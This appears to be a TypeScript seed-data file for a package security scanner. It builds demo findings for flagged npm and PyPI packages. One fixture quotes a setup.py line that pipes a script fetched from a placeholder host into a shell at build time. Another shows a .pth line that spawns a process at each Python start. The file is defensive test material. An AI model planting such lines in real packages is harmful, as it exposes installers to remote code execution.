import type { Evidence } from '../../src/model/finding.ts'
import { envStealer } from './env-stealer.ts'
import { hit, npmFile, pypiFile, type Seed } from './seed.ts'

/** The cases of a working morning. The first is the one of the pictures. */
export function morning(now: Date): readonly Seed[] {
  return [
    envStealer(now),
    setupRunner(),
    pthLoader(),
    ordinary('@acme/form-kit', '3.0.0', 95),
    ordinary('tiny-glob-walk', '0.4.0', 260),
  ]
}

/** A package that merely gained an install script. */
export function ordinary(name: string, version: string, openedMinutesAgo: number): Seed {
  const artifact = npmFile(name, version)
  const trigger: Evidence = {
    role: 'trigger',
    path: 'package.json',
    line: 9,
    note: 'postinstall runs node scripts/fetch-binary.js',
    snippet: { firstLine: 8, lines: ['  "scripts": {', '    "postinstall": "node scripts/fetch-binary.js"', '  },'] },
  }
  return {
    artifact,
    registry: 'npm',
    findings: [
      {
        check: 'install-scripts',
        severity: 'medium',
        confidence: 'high',
        message: 'runs a script at install',
        evidence: [trigger],
      },
    ],
    surface: [
      {
        path: 'scripts/fetch-binary.js',
        startedBy: ['package.json scripts.postinstall'],
        moment: 'install',
        capabilities: ['network'],
      },
    ],
    capabilities: ['network'],
    installScripts: { postinstall: 'node scripts/fetch-binary.js' },
    files: [
      ['package.json', 640],
      ['scripts/fetch-binary.js', 2210],
      ['index.js', 900],
    ],
    hits: [
      hit(
        'new-install-script',
        'quarantine',
        'runs a new postinstall script at install',
        'An install script runs beside your secrets.',
      ),
    ],
    askedBy: [['10.0.4.9', 'npm/11.6.0 node/v24.11.0 linux x64']],
    openedMinutesAgo,
  }
}

export function setupRunner(): Seed {
  const line = "os.system('curl -s https://cdn.fastjson.invalid/opt.sh | sh')"
  return {
    artifact: pypiFile('fastjson-utils', '0.9.2', 'fastjson_utils-0.9.2.tar.gz', 'sdist'),
    registry: 'pypi',
    findings: [
      {
        check: 'setup-py-executes',
        severity: 'critical',
        confidence: 'high',
        message: 'setup.py downloads a script and runs it while the package is built',
        evidence: [
          { role: 'trigger', path: 'setup.py', note: 'pip builds the sdist by running setup.py' },
          {
            role: 'sink',
            path: 'setup.py',
            line: 7,
            column: 1,
            note: 'starts a shell with what a host sends',
            snippet: {
              firstLine: 5,
              lines: ['from setuptools import setup', '', line, '', 'setup(name="fastjson-utils", version="0.9.2")'],
            },
          },
        ],
      },
    ],
    surface: [
      { path: 'setup.py', startedBy: ['pip builds the sdist'], moment: 'build', capabilities: ['process', 'network'] },
    ],
    capabilities: ['process', 'network'],
    files: [
      ['setup.py', 310],
      ['PKG-INFO', 940],
      ['fastjson_utils/__init__.py', 2204],
    ],
    hits: [
      hit(
        'download-and-run',
        'block',
        'setup.py downloads a script and runs it',
        'Code that is fetched at build time was inspected by nobody.',
        { waivable: false },
      ),
    ],
    askedBy: [
      ['10.0.7.30', 'pip/26.1 {"ci":true}'],
      ['10.0.7.31', 'pip/26.1 {"ci":true}'],
      ['10.0.7.32', 'uv/0.9.9 {"ci":true}'],
    ],
    openedMinutesAgo: 18,
  }
}

export function pthLoader(): Seed {
  return {
    artifact: pypiFile('log-shipper', '2.1.0', 'log_shipper-2.1.0-py3-none-any.whl', 'wheel'),
    registry: 'pypi',
    findings: [
      {
        check: 'executable-pth',
        severity: 'high',
        confidence: 'high',
        message: 'installs a .pth file that starts a process at each start of Python',
        evidence: [
          {
            role: 'sink',
            path: 'log_shipper.pth',
            line: 1,
            column: 1,
            note: 'starts a subprocess',
            snippet: {
              firstLine: 1,
              lines: ['import subprocess, sys; subprocess.Popen([sys.executable, "-m", "log_shipper.agent"])'],
            },
          },
        ],
      },
    ],
    surface: [
      { path: 'log_shipper.pth', startedBy: ['every start of Python'], moment: 'startup', capabilities: ['process'] },
    ],
    capabilities: ['process'],
    files: [
      ['log_shipper.pth', 88],
      ['log_shipper/__init__.py', 120],
      ['log_shipper/agent.py', 4100],
    ],
    hits: [
      hit(
        'executable-pth',
        'quarantine',
        'installs a .pth file that runs code at each start of Python',
        'It runs in every program of that interpreter.',
      ),
    ],
    askedBy: [['10.0.5.77', 'pip/26.1', 'Needed for the staging cluster.', 'ops channel']],
    openedMinutesAgo: 61,
  }
}
